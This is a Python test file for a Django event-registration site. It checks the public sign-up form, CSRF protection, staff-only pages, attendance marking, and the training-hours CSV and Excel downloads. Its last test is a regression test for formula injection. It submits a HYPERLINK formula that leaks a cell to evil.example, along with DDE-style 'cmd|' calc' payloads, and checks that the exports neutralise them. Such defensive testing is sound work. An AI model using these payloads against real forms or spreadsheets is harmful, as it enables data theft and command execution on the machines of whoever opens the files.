"""Event pages through the test client: the public page and its registration form, the
staff pages for the organiser's project leaders only, and the training-hours downloads."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lotsen.events.models import Event, Registration
from lotsen.events.services import ERROR_DUPLICATE_EMAIL
from tests.events.conftest import at, make_event, register

pytestmark = pytest.mark.django_db

GOOD = {
    "name": "Karin Ek",
    "email": "karin.ek@kommun.se",
    "organisation_name": "Kommunen",
    "role": "Kurator",
}


@pytest.fixture
def leader_client(client, leader):
    client.force_login(leader.user)
    return client


def test_public_page_needs_no_login_and_shows_no_registrants(client, region):
    event = make_event(region, title="Kunskapsdag om avbrott", capacity=30)
    register(event, "Hemlig Deltagare", organisation_name="Skolan")
    page = client.get(reverse("events:public", args=[event.slug]))
    assert page.status_code == 200
    assert "Kunskapsdag om avbrott" in page.text
    assert "Hemlig Deltagare" not in page.text and "hemlig.deltagare" not in page.text
    assert "Platser kvar" in page.text and ">29<" in page.text
    assert 'name="csrfmiddlewaretoken"' in page.text
    assert 'autocomplete="email"' in page.text


def test_registration_with_errors_then_confirmation(client, region):
    event = make_event(region)
    url = reverse("events:public", args=[event.slug])
    bad = client.post(url, {**GOOD, "email": "inte-en-adress", "role": ""})
    assert bad.status_code == 200
    assert "govuk-error-summary" in bad.text
    assert 'href="#id_email">E-postadress: Skriv e-postadressen i rätt format' in bad.text
    assert 'href="#id_role">Yrkesroll: Skriv din yrkesroll.' in bad.text
    assert 'id="id_email-error"' in bad.text and 'aria-invalid="true"' in bad.text
    assert bad.text.count("<title>Fel: ") == 1
    assert not Registration.objects.exists()

    good = client.post(url, GOOD)
    assert good.status_code == 302
    assert good.url == reverse("events:registered", args=[event.slug])
    done = client.get(good.url)
    assert "Du är anmäld" in done.text and "karin.ek@kommun.se" in done.text
    # Someone else opening the confirmation address sees no one's details.
    assert "karin.ek@kommun.se" not in Client().get(good.url).text

    again = client.post(url, {**GOOD, "email": "KARIN.EK@kommun.se"})
    assert f'href="#id_email">E-postadress: {ERROR_DUPLICATE_EMAIL}' in again.text
    assert Registration.objects.count() == 1


def test_a_full_event_says_so_and_takes_no_registration(client, region):
    event = make_event(region, capacity=1)
    register(event, "Första Person")
    page = client.get(reverse("events:public", args=[event.slug]))
    assert "Evenemanget är fullbokat" in page.text and "Skicka anmälan" not in page.text
    client.post(reverse("events:public", args=[event.slug]), GOOD)
    assert Registration.objects.count() == 1


def test_the_public_form_keeps_csrf(region):
    event = make_event(region)
    strict = Client(enforce_csrf_checks=True)
    assert strict.post(reverse("events:public", args=[event.slug]), GOOD).status_code == 403
    assert not Registration.objects.exists()


def test_past_and_closed_events_show_no_form(client, region):
    past = make_event(region, starts_at=at(-2, 9), ends_at=at(-2, 12))
    assert "Evenemanget har redan ägt rum" in client.get(past.get_absolute_url()).text
    closed = make_event(region, registration_open=False)
    page = client.get(closed.get_absolute_url())
    assert (
        "Anmälan till evenemanget är stängd" in page.text
        and '<form method="post" novalidate' not in page.text
    )


def test_public_list_shows_only_open_upcoming_events_for_professionals(client, region):
    make_event(region, title="Öppen dag")
    make_event(region, title="Stängd dag", registration_open=False)
    make_event(region, title="Ungdomsdag", audience="young_people")
    page = client.get(reverse("events:public_list"))
    assert "Öppen dag" in page.text
    assert "Stängd dag" not in page.text and "Ungdomsdag" not in page.text


def test_staff_pages_are_for_the_organisers_project_leaders(client, leader, municipality_leader):
    event = make_event(leader.organisation)
    register(event, "Karin Ek")
    client.force_login(municipality_leader.user)
    for name, args in (
        ("events:detail", [event.pk]),
        ("events:edit", [event.pk]),
        ("events:attendance", [event.pk]),
    ):
        assert client.get(reverse(name, args=args)).status_code == 404
    assert "Karin Ek" not in client.get(reverse("events:list")).text
    anonymous = Client()
    assert anonymous.get(reverse("events:list")).status_code == 302


def test_create_edit_and_see_registrations(leader_client, leader, programme):
    url = reverse("events:create")
    page = leader_client.get(url)
    assert page.status_code == 200 and programme.name in page.text
    day = at(14, 9).date().isoformat()
    bad = leader_client.post(
        url,
        {
            "title": "Nätverksträff",
            "date": day,
            "start_time": "13:00",
            "end_time": "12:00",
            "format": "on_site",
            "audience": "professionals",
        },
    )
    assert 'href="#id_end_time">Slutar klockan: Sluttiden måste vara efter starttiden.' in bad.text
    good = leader_client.post(
        url,
        {
            "title": "Nätverksträff",
            "programme": str(programme.pk),
            "date": day,
            "start_time": "13:00",
            "end_time": "16:00",
            "format": "on_site",
            "audience": "professionals",
            "location": "Regionens hus",
            "capacity": "40",
            "registration_open": "on",
        },
    )
    event = Event.objects.get()
    assert good.status_code == 302 and good.url == reverse("events:detail", args=[event.pk])
    assert (event.programme, event.capacity, event.duration_hours) == (programme, 40, 3.0)
    register(event, "Karin Ek", organisation_name="Kommunen", role="Kurator")
    detail = leader_client.get(good.url)
    assert "Karin Ek" in detail.text and event.get_absolute_url() in detail.text
    edit = leader_client.get(reverse("events:edit", args=[event.pk]))
    assert 'value="Nätverksträff"' in edit.text and 'value="13:00"' in edit.text


def test_mark_attendance_page(leader_client, leader):
    event = make_event(leader.organisation, days=-1)
    came, absent = register(event, "Karin Ek"), register(event, "Olle Berg")
    url = reverse("events:attendance", args=[event.pk])
    assert "Karin Ek" in leader_client.get(url).text
    response = leader_client.post(url, {"attended": [str(came.pk)]})
    assert response.status_code == 302
    came.refresh_from_db()
    absent.refresh_from_db()
    assert (came.attended, absent.attended) == (True, False)


def test_training_hours_page_and_downloads(leader_client, leader, programme, municipality):
    event = make_event(leader.organisation, days=-1, programme=programme)
    register(event, "Karin Ek", organisation=municipality, role="Kurator", attended=True)
    register(event, "Olle Berg", organisation_name="Skolan", role="Mentor", attended=True)
    page = leader_client.get(reverse("events:training_hours"), {"programme": programme.pk})
    assert page.status_code == 200 and "Kommunen" in page.text and "3,5" in page.text
    query = {"programme": programme.pk}
    csv_response = leader_client.get(reverse("events:training_hours_csv"), query)
    rows = list(csv.reader(io.StringIO(csv_response.content.decode()), delimiter=";"))
    assert rows[0] == ["Gruppering", "Namn", "Deltagare", "Utbildningstimmar"]
    assert ["Organisation", "Kommunen", "1", "3,50"] in rows
    assert ["Yrkesroll", "Totalt", "2", "7,00"] in rows
    xlsx = leader_client.get(reverse("events:training_hours_xlsx"), query)
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["Om filen", "Organisation", "Yrkesroll"]
    sheet = book["Organisation"]
    assert [c.value for c in sheet[1]] == ["Organisation", "Deltagare", "Utbildningstimmar"]
    values = {row[0]: (row[1], row[2]) for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values == {"Kommunen": (1, 3.5), "Skolan": (1, 3.5), "Totalt": (2, 7.0)}
    assert book["Om filen"]["B2"].value == programme.name


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")'


def test_a_formula_typed_in_the_public_form_stays_text_in_both_downloads(
    client, leader_client, leader
):
    """Issue 10: an anonymous registrant's organisation became a live formula in the
    training-hours workbook, and +cmd|, @SUM( and -2+3 went into the CSV unchanged."""
    event = make_event(leader.organisation)
    url = reverse("events:public", args=[event.slug])
    typed = [
        ("Ada Angripare", HYPERLINK, "Kurator"),
        ("Bo Bus", "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("Cia Cell", "-2+3", "Mentor"),
    ]
    for name, organisation, role in typed:
        email = f"{name.split()[0].lower()}@exempel.se"
        response = client.post(
            url, {"name": name, "email": email, "organisation_name": organisation, "role": role}
        )
        assert response.status_code == 302
    # The day comes and goes; the organiser marks everyone as having come.
    Event.objects.filter(pk=event.pk).update(starts_at=at(-1, 9), ends_at=at(-1, 12, 30))
    everyone = [str(pk) for pk in event.registrations.values_list("pk", flat=True)]
    leader_client.post(reverse("events:attendance", args=[event.pk]), {"attended": everyone})

    xlsx = leader_client.get(reverse("events:training_hours_xlsx"))
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    organisations = {row[0]: row[1:] for row in book["Organisation"].iter_rows(values_only=True)}
    assert organisations["'" + HYPERLINK] == (1, 3.5)
    assert organisations["'-2+3"] == (1, 3.5)
    roles = [row[0] for row in book["Yrkesroll"].iter_rows(values_only=True)]
    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in roles

    response = leader_client.get(reverse("events:training_hours_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    assert ["Organisation", "'" + HYPERLINK, "1", "3,50"] in rows
    assert ["Organisation", "'+cmd|' /C calc'!A0", "1", "3,50"] in rows
    assert ["Organisation", "'-2+3", "1", "3,50"] in rows
    assert ["Yrkesroll", "'@SUM(1+9)*cmd|' /C calc'!A0", "1", "3,50"] in rows
    for row in rows:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "no-store" in xlsx["Cache-Control"] and "no-store" in response["Cache-Control"]
